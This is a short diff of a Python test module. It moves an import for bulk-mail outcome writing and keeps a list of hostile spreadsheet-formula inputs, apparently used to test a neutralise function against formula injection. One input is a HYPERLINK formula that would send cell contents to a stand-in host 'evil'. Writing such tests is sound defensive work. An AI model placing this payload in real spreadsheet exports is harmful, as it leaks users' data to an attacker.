@@ -12,10 +12,10 @@ import pytest
 
 from app import storage
 from app.ai import batch
+from app.mail.bulk import OUTCOMES_FILE, Outcome, write_outcomes
 from app.office import excel
 from app.office.outputs import OutputFolder
 from app.reports.cells import FORMULA_PREFIXES, neutralise
-from app.tasks.email_tasks import OUTCOMES_FILE, Outcome, write_outcomes
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]
